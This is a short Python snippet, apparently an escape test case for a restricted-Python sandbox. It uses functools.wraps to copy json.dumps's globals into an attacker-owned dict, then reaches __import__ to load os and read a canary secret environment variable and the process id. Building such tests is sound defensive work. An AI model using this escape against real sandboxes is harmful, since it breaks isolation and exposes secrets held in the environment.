# technique: functools.wraps(..., updated=('__globals__',)) merges json.dumps.__globals__ into a dict we own
# expect: any
import functools
import json
sink = {}
Holder = type("Holder", (), {"__globals__": sink})
functools.wraps(json.dumps, assigned=(), updated=("__globals__",))(Holder())
os_mod = sink["__builtins__"]["__import__"]("os")
(os_mod.environ.get("SAFEPY_CANARY_SECRET"), os_mod.getpid())
